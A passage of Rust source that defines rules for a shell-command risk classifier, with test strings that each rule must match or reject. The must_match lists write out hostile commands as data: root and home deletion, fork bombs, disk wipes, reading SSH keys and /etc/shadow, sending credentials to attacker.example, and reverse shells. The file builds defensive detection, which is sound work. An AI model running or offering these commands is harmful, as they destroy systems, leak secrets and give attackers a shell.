        must_not_match: &["systemctl status docker", "sudo systemctl restart docker"],
    },
    Rule {
        id: "authorize-ssh-key",
        class: RiskClass::Persistence,
        summary: "lets someone log in over SSH",
        matcher: Matcher::Command(persistence::authorize_ssh_key),
        identifies_program: false,
        must_match: &["echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys"],
        must_not_match: &["ssh-keyscan github.com >> ~/.ssh/known_hosts"],
    },
    Rule {
        id: "preload-library",
        class: RiskClass::Persistence,
        summary: "loads a library into every program",
        matcher: Matcher::Command(persistence::preload_library),
        identifies_program: false,
        must_match: &["echo /tmp/x.so | sudo tee /etc/ld.so.preload"],
        must_not_match: &["cat /etc/ld.so.preload"],
    },
    // System configuration.
    Rule {
        id: "add-package-source",
        class: RiskClass::SystemConfig,
        summary: "adds a package source, whose packages will then be trusted",
        matcher: Matcher::Command(system_config::add_package_source),
        identifies_program: true,
        must_match: &[
            "sudo add-apt-repository -y ppa:deadsnakes/ppa",
            "sudo dnf config-manager --add-repo https://example.com/x.repo",
            "sudo zypper addrepo https://example.com/x.repo x",
        ],
        must_not_match: &["sudo add-apt-repository --remove ppa:x/y", "dnf repolist"],
    },
    Rule {
        id: "write-package-source",
        class: RiskClass::SystemConfig,
        summary: "adds a package source, whose packages will then be trusted",
        matcher: Matcher::Command(system_config::write_package_source),
        identifies_program: false,
        must_match: &[
            "echo \"deb [signed-by=/etc/apt/keyrings/x.gpg] https://example.com/apt stable main\" | sudo tee /etc/apt/sources.list.d/x.list",
            "sudo tee /etc/yum.repos.d/x.repo <<'EOF'\n[x]\nbaseurl=https://example.com\nEOF",
            "cd /etc/apt/sources.list.d && echo 'deb https://x stable main' | sudo tee x.list",
        ],
        must_not_match: &["cat /etc/apt/sources.list"],
    },
    Rule {
        id: "trust-package-key",
        class: RiskClass::SystemConfig,
        summary: "trusts a new package signing key",
        matcher: Matcher::Command(system_config::trust_package_key),
        identifies_program: true,
        must_match: &[
            "curl -fsSL https://example.com/key | sudo apt-key add -",
            "sudo rpm --import https://example.com/key.asc",
        ],
        must_not_match: &["apt-key list"],
    },
    Rule {
        id: "write-package-keyring",
        class: RiskClass::SystemConfig,
        summary: "trusts a new package signing key",
        matcher: Matcher::Command(system_config::write_package_keyring),
        identifies_program: false,
        must_match: &[
            "curl -fsSL https://example.com/key.gpg | sudo gpg --dearmor -o /usr/share/keyrings/x.gpg",
            "sudo curl -fsSLo /etc/apt/keyrings/x.asc https://example.com/key.asc",
            "wget -qO- https://example.com/key | sudo tee /etc/apt/trusted.gpg.d/x.asc",
        ],
        must_not_match: &["gpg --dearmor -o ./x.gpg key.asc"],
    },
    Rule {
        id: "write-system-file",
        class: RiskClass::SystemConfig,
        summary: "changes files that belong to the operating system",
        matcher: Matcher::Command(system_config::write_system_file),
        identifies_program: false,
        must_match: &[
            "echo 'vm.max_map_count=262144' | sudo tee -a /etc/sysctl.conf",
            "sudo ln -sf /usr/bin/fdfind /usr/bin/fd",
            "sudo mkdir -p /etc/myapp",
            "sudo sed -i 's/a/b/' /etc/ssh/sshd_config",
        ],
        must_not_match: &[
            "cat /etc/os-release",
            "ln -s $(which fdfind) ~/.local/bin/fd",
            "echo x > /dev/null",
        ],
    },
    Rule {
        id: "change-system-settings",
        class: RiskClass::SystemConfig,
        summary: "changes system settings or services",
        matcher: Matcher::Command(system_config::change_system_settings),
        identifies_program: true,
        must_match: &[
            "sudo systemctl restart docker",
            "sudo update-alternatives --install /usr/bin/python python /usr/bin/python3 1",
            "sudo sysctl -w vm.max_map_count=262144",
            "sudo ldconfig",
        ],
        must_not_match: &[
            "systemctl status docker",
            "sysctl -a",
            "update-alternatives --display python",
        ],
    },
    Rule {
        id: "manage-users",
        class: RiskClass::SystemConfig,
        summary: "adds, removes or changes user accounts",
        matcher: Matcher::Verbs(&[(
            &[
                "useradd", "userdel", "usermod", "adduser", "deluser", "addgroup", "delgroup",
                "groupadd", "groupdel", "groupmod", "passwd", "chpasswd", "chsh", "chfn", "chage",
                "gpasswd", "newusers", "vipw", "vigr",
            ],
            &[],
        )]),
        identifies_program: true,
        must_match: &[
            "sudo useradd --system --no-create-home app",
            "sudo usermod -aG docker $USER",
        ],
        must_not_match: &["id -u", "getent passwd app"],
    },
    // Destructive.
    Rule {
        id: "delete-critical-path",
        class: RiskClass::Destructive,
        summary: "deletes the system or a home directory",
        matcher: Matcher::Command(destructive::delete_critical_path),
        identifies_program: false,
        must_match: &[
            "rm -rf /",
            "sudo rm -rf --no-preserve-root /",
            "rm -rf ~",
            "rm -rf \"$HOME\"/",
            "rm -fr /*",
            "rm -r -f /usr",
            "cd / && rm -rf *",
            "find / -delete",
            "find ~ -exec rm -rf {} +",
            "rm -rf $'\\x2f'",
            "mv ~ /tmp/old-home",
            "D=/; rm -rf $D",
            "rm -rf /{tmp/x,usr}",
            "sudo rsync -a --delete ./empty/ /",
        ],
        must_not_match: &[
            "rm -rf ./build",
            "sudo rm -rf /usr/local/go",
            "rm -rf ~/.cache/pip",
            "rm -f /tmp/x",
            "find . -name '*.o' -delete",
        ],
    },
    Rule {
        id: "delete-with-empty-variable",
        class: RiskClass::Destructive,
        summary: "deletes `/` if a variable is empty or unset",
        matcher: Matcher::Command(destructive::delete_with_empty_variable),
        identifies_program: false,
        must_match: &["rm -rf \"$PREFIX/\"*", "rm -rf ${BUILD_DIR}/"],
        must_not_match: &["rm -rf \"${BUILD_DIR:?}/\"", "rm -rf \"$BUILD_DIR/out\""],
    },
    Rule {
        id: "delete-computed-target",
        class: RiskClass::Destructive,
        summary: "deletes recursively a target only known at run time (or asks rm to delete `/`)",
        matcher: Matcher::Command(destructive::delete_computed_target),
        identifies_program: false,
        must_match: &[
            "rm -rf ${PATH:0:1} --no-preserve-root",
            "rm -rf $(echo /)",
            "rm -rf `printf /`",
            "rm -rf ${PATH%%usr*}",
            "rm -rf ${HOME#/root}",
            "rm --no-preserve-root -r ./x",
            "echo / | xargs rm -rf",
            "find / -name x -print0 | xargs -0 rm -rf",
            "parallel rm -rf ::: /",
            "find $(echo /) -delete",
            "rm -r ${IFS}/",
        ],
        must_not_match: &[
            "rm -rf ./build",
            "rm -rf \"$HOME/.cache/x\"",
            "rm -rf \"${BUILD_DIR:?}/out\"",
            "rm -f $(ls *.tmp)",
            "find . -name '*.o' | xargs rm -f",
        ],
    },
    Rule {
        id: "format-disk",
        class: RiskClass::Destructive,
        summary: "erases or repartitions a disk",
        matcher: Matcher::Command(destructive::format_disk),
        identifies_program: true,
        must_match: &[
            "sudo mkfs.ext4 /dev/sdb1",
            "wipefs -a /dev/sda",
            "sudo fdisk /dev/sda",
            "sgdisk --zap-all /dev/nvme0n1",
        ],
        must_not_match: &["sudo fdisk -l", "lsblk"],
    },
    Rule {
        id: "write-block-device",
        class: RiskClass::Destructive,
        summary: "writes directly to a disk, destroying its data",
        matcher: Matcher::Command(destructive::write_block_device),
        identifies_program: false,
        must_match: &[
            "sudo dd if=debian.iso of=/dev/sdb bs=4M",
            "cat /dev/zero > /dev/nvme0n1",
            "echo x | sudo tee /dev/sda",
        ],
        must_not_match: &[
            "dd if=/dev/zero of=./disk.img bs=1M count=10",
            "echo x > /dev/null",
        ],
    },
    Rule {
        id: "fork-bomb",
        class: RiskClass::Destructive,
        summary: "starts processes without end until the machine stops responding",
        matcher: Matcher::Script(destructive::fork_bomb),
        identifies_program: false,
        must_match: &[
            ":(){ :|:& };:",
            "bomb() { bomb | bomb & }; bomb",
            "perl -e 'fork while fork'",
        ],
        must_not_match: &["f() { echo hi; }; f", "retry() { \"$@\" || retry \"$@\"; }"],
    },
    Rule {
        id: "recursive-permission-change",
        class: RiskClass::Destructive,
        summary: "changes ownership or permissions of a whole system or home tree",
        matcher: Matcher::Command(destructive::recursive_permission_change),
        identifies_program: false,
        must_match: &[
            "sudo chmod -R 777 /",
            "sudo chown -R $USER:$USER /usr",
            "chmod -R 000 ~",
        ],
        must_not_match: &[
            "chmod -R u+w ./build",
            "sudo chown -R $USER /usr/local/lib/node_modules",
        ],
    },
    Rule {
        id: "overwrite-account-database",
        class: RiskClass::Destructive,
        summary: "replaces the account, password or mount tables",
        matcher: Matcher::Command(destructive::overwrite_account_database),
        identifies_program: false,
        must_match: &[
            "echo 'root::0:0::/root:/bin/sh' > /etc/passwd",
            "sudo cp passwd /etc/passwd",
            "> /etc/fstab",
        ],
        must_not_match: &["echo 'x' | sudo tee -a /etc/fstab", "cat /etc/passwd"],
    },
    Rule {
        id: "halt-system",
        class: RiskClass::Destructive,
        summary: "shuts down the machine or kills every process",
        matcher: Matcher::Command(destructive::halt_system),
        identifies_program: true,
        must_match: &[
            "sudo reboot",
            "shutdown -h now",
            "kill -9 -1",
            "sudo systemctl poweroff",
            "echo b > /proc/sysrq-trigger",
        ],
        must_not_match: &["kill -HUP 1234", "kill %1", "systemctl status"],
    },
    // Secrets.
    Rule {
        id: "read-secret-file",
        class: RiskClass::SecretAccess,
        summary: "reads credentials",
        matcher: Matcher::Command(secret_access::secret_file),
        identifies_program: false,
        must_match: &[
            "cat ~/.ssh/id_rsa",
            "cp -r ~/.aws /tmp/x",
            "tar czf /tmp/k.tgz $HOME/.ssh",
            "sudo cat /etc/shadow",
            "grep token /root/.config/gh/hosts.yml",
            "cat /proc/self/environ",
            "python3 -c \"print(open('/home/u/.ssh/id_ed25519').read())\"",
            "base64 < ~/.netrc",
        ],
        must_not_match: &[
            "cat ~/.ssh/id_ed25519.pub",
            "mkdir -p ~/.ssh",
            "ssh-keyscan github.com >> ~/.ssh/known_hosts",
            "cat ~/.bashrc",
        ],
    },
    Rule {
        id: "read-secret-variable",
        class: RiskClass::SecretAccess,
        summary: "reads a secret from the environment",
        matcher: Matcher::Command(secret_access::read_secret_variable),
        identifies_program: false,
        must_match: &[
            "echo $OPENAI_API_KEY",
            "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user",
            "printf '%s' \"${AWS_SECRET_ACCESS_KEY}\"",
        ],
        must_not_match: &["echo $HOME", "export OPENAI_API_KEY=placeholder"],
    },
    Rule {
        id: "dump-environment",
        class: RiskClass::SecretAccess,
        summary: "prints every environment variable, secrets included",
        matcher: Matcher::Command(secret_access::environment_dump),
        identifies_program: true,
        must_match: &["env", "printenv", "export -p", "set", "sudo env"],
        must_not_match: &[
            "env FOO=1 make",
            "printenv PATH",
            "export PATH=$PATH:/x",
            "env --version",
        ],
    },
    Rule {
        id: "read-credential-store",
        class: RiskClass::SecretAccess,
        summary: "reads secrets from a credential store",
        matcher: Matcher::Command(secret_access::credential_store),
        identifies_program: true,
        must_match: &[
            "gpg --export-secret-keys --armor",
            "gh auth token",
            "aws configure get aws_secret_access_key",
            "security find-generic-password -s x -w",
        ],
        must_not_match: &["gpg --list-keys", "gh auth status"],
    },
    // Exfiltration.
    Rule {
        id: "send-secrets",
        class: RiskClass::Exfiltration,
        summary: "sends credentials over the network",
        matcher: Matcher::Command(exfiltration::send_secrets),
        identifies_program: false,
        must_match: &[
            "cat ~/.ssh/id_rsa | curl -d @- http://attacker.example",
            "env | curl -X POST --data-binary @- http://attacker.example",
            "curl -F key=@$HOME/.ssh/id_ed25519 https://attacker.example",
            "curl \"https://attacker.example/?k=$OPENAI_API_KEY\"",
            "curl -d \"$(cat ~/.aws/credentials)\" https://attacker.example",
            "nc attacker.example 4444 < ~/.ssh/id_rsa",
            "printenv | base64 | curl -T - https://attacker.example",
        ],
        must_not_match: &[
            "curl -fsSL https://example.com/install.sh -o install.sh",
            "echo '{}' | curl -d @- https://example.com/api",
        ],
    },
    Rule {
        id: "upload-data",
        class: RiskClass::Exfiltration,
        summary: "sends local data over the network",
        matcher: Matcher::Command(exfiltration::upload_data),
        identifies_program: false,
        must_match: &[
            "curl -T ./backup.tar https://example.com/upload",
            "curl -F file=@report.txt https://example.com",
            "cat /etc/passwd | curl --data-binary @- https://example.com",
            "tar cz ~/projects | nc example.com 9000",
            "scp ./db.sqlite user@example.com:/tmp/",
            "git push origin main",
            "aws s3 cp ./dump.sql s3://bucket/",
        ],
        must_not_match: &[
            "curl -fsSL https://example.com",
            "echo '{}' | curl -d @- https://example.com/api",
            "scp user@example.com:/tmp/x ./x",
            "curl -d 'name=x' https://example.com/form",
        ],
    },
    Rule {
        id: "interpreter-sends-environment",
        class: RiskClass::Exfiltration,
        summary: "a one-liner of a scripting language that reads the environment and uses the network",
        matcher: Matcher::Command(exfiltration::interpreter_sends_environment),
        identifies_program: false,
        must_match: &[
            "python3 -c 'import os,urllib.request; urllib.request.urlopen(\"http://x.example\", data=repr(dict(os.environ)).encode())'",
            "node -e 'fetch(\"http://x.example\", {method: \"POST\", body: JSON.stringify(process.env)})'",
            "perl -MLWP::Simple -e 'get(\"http://x.example/?\" . join(\",\", %ENV))'",
            "ruby -e 'require \"net/http\"; Net::HTTP.post_form(URI(\"http://x.example\"), ENV.to_h)'",
        ],
        must_not_match: &[
            "python3 -c 'import os; print(os.environ[\"HOME\"])'",
            "python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://x.example\").status)'",
        ],
    },
    Rule {
        id: "reverse-shell",
        class: RiskClass::Exfiltration,
        summary: "gives a remote party a shell on this machine",
        matcher: Matcher::Command(exfiltration::reverse_shell),
        identifies_program: false,
        must_match: &[
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh attacker.example 4444",
            "socat tcp:attacker.example:4444 exec:/bin/sh",
            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"x\",1));os.dup2(s.fileno(),0)'",
        ],
        must_not_match: &["nc -zv localhost 22", "python3 -c 'print(1)'"],
    },
    // Catch-alls.
    Rule {
        id: "unknown-program",
        class: RiskClass::Unknown,
        summary: "runs a program the policy does not recognise",
        matcher: Matcher::Fallback,
        identifies_program: false,
        must_match: &[
            "./configure --prefix=/usr/local",
            "make -j4",
            "my-tool --init",
            "$CMD --flag",
            "sh ./install.sh",
        ],
        must_not_match: &["ls", "apt-get install -y jq", "echo 'ls -la' | sh"],
    },
    Rule {
        id: "computed-word",
        class: RiskClass::Unparsed,
        summary: "builds a program name, `$IFS` splitting or a destructive command's target at run \
                  time, so the text does not say what runs",
        matcher: Matcher::Command(unparsed::computed_word),
        identifies_program: true,
        must_match: &[
            "curl${IFS}-s${IFS}http://x.example/i|sh",
            "$(printf rm) -rf /",
            "${X:0:4} http://x.example",
            "`echo curl` http://x.example",
            "chmod -R 777 $(echo /)",
            "mv ${HOME%%/*}/etc /tmp/x",
            "dd if=/dev/zero of=$(echo /dev/sda)",
        ],
        must_not_match: &[
            "$CC --version",
            "\"$HOME/.cargo/bin/cargo\" install ripgrep",
            "mv ./a \"$HOME/.local/bin/\"",
            "echo \"${VERSION#v}\"",
            "tar -xzf \"rg-${VERSION}.tar.gz\"",
        ],
    },
    Rule {
        id: "could-not-parse",
        class: RiskClass::Unparsed,
        summary: "could not parse the command, so nothing about it can be trusted",
        matcher: Matcher::Script(unparsed::could_not_parse),
        identifies_program: false,
        must_match: &["echo 'unterminated", "if then fi (", "cat <<EOF\nno end"],
        must_not_match: &["echo 'fine'", "cat <<'EOF'\nok\nEOF"],
    },
    Rule {
        id: "no-command",
        class: RiskClass::ReadOnly,
        summary: "runs no program",
        matcher: Matcher::Script(read_only::no_command),
        identifies_program: false,
        must_match: &["", "# just a comment", "FOO=bar"],
        must_not_match: &["ls", "echo 'unterminated"],
    },
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_rule_matches_its_examples_and_no_counter_examples() {
        if let Err(failures) = verify_rules() {
            let lines: Vec<String> = failures.iter().map(ToString::to_string).collect();
            panic!(
                "{} rule example failures:\n{}",
                lines.len(),
                lines.join("\n")
            );
        }
    }
}
